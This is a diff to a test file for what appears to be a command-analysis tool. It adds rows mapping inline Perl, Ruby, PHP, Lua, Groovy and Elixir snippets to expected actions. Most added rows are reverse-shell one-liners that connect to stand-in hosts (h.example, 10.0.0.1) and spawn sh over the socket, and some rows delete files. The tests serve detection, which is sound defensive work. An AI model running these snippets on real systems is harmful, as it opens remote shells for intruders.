@@ -26,5 +26,46 @@ rmtree("x") => run perl [inline] · write x [delete,tree]
 my $c = "rm x"; system($c) => run perl [inline] · run rm x · write x [delete]
 do "x.pl" => run perl [inline] · read x.pl
 syscall(59, "x") => run perl [inline] OPAQUE
+use IO::Socket; IO::Socket::INET->new(PeerAddr=>"h.example", PeerPort=>1); exec("sh") => run perl [inline] · connect h.example · run sh <network:h.example>
+connect(S, sockaddr_in(1, inet_aton("10.0.0.1"))); system("sh -i") => run perl [inline] · connect 10.0.0.1 · run sh -i <network:10.0.0.1>
+""",
+)
+
+test_sockets_of_ruby = code_rows(
+    "ruby",
+    r"""
+TCPSocket.new("h.example", 1) => run ruby [inline] · connect h.example
+spawn("sh", [:in, :out]=>TCPSocket.new("h.example", 1)) => run ruby [inline] · connect h.example · run sh <network:h.example>
+spawn("sh", in: sock) => run ruby [inline] · run sh
+system("make", "test", exception: true) => run ruby [inline] · run make test [runner]
+system("rm", x) => run ruby [inline] · run rm □ · write □ [delete]
+""",
+)
+
+test_sockets_of_php = code_rows(
+    "php",
+    r"""
+socket_connect($s, "10.0.0.1", 1); passthru("sh <&3"); => run php [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
+""",
+)
+
+test_sockets_of_lua = code_rows(
+    "lua",
+    r"""
+t:connect("10.0.0.1", "1"); os.execute("sh <&3") => run lua [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
+""",
+)
+
+test_sockets_of_groovy = code_rows(
+    "groovy",
+    r"""
+Socket s = new Socket("h.example", 1); new ProcessBuilder("sh").start() => run groovy [inline] · connect h.example · run sh <network:h.example>
+""",
+)
+
+test_sockets_of_elixir = code_rows(
+    "elixir",
+    r"""
+:gen_tcp.connect(~c"10.0.0.1", 1, []); System.cmd("sh", []) => run elixir [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
 """,
 )
